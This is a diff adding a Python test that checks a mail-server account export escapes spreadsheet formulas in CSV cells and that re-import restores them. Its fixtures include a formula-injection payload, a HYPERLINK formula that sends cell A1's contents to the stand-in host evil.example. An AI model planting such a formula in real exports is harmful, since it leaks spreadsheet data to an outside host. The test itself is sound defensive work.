@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 
@@ -304,3 +305,35 @@ def test_the_import_page_costs_the_same_queries_however_many_imports(postmaster,
 
 # HTTP Basic login (2), the domain, the recent imports, the server name.
 IMPORT_PAGE_QUERIES = 5
+
+
+# --- formulas ----------------------------------------------------------------------------------
+
+
+FORMULAS = {
+    "alice": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "bob": "+1 555 0100",
+    "carl": "-2+3",
+    "dora": "@SUM(1+1)",
+    "emil": "'=quoted already",
+    "fred": "''-two quotes",
+    "gina": "it's = fine",
+}
+
+
+def test_export_writes_cells_a_spreadsheet_would_run_as_text_and_import_gives_them_back(postmaster, client1,
+                                                                                       as_basic, tmp_path):
+    for name, real_name in FORMULAS.items():
+        make_account(client1, name, RealName=real_name)
+    target = make_domain("copy.test")
+
+    download = as_basic(postmaster).get("/Master/Users/Domains/client1.test/ExportAccounts")
+    text = b"".join(download.streaming_content).decode("utf-8")
+    cells = {row[0]: row[3] for row in csv.reader(io.StringIO(text)) if row[0] in FORMULAS}
+    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in cells.values()), cells
+    assert cells["alice"] == "'" + FORMULAS["alice"] and cells["gina"] == "it's = fine"
+    call_command("accounts", "import", "copy.test", write(tmp_path, text), "--no-progress",
+                 stdout=io.StringIO(), stderr=io.StringIO())
+
+    copied = {account.name: account.settings["RealName"] for account in Account.objects.filter(domain=target)}
+    assert copied == FORMULAS
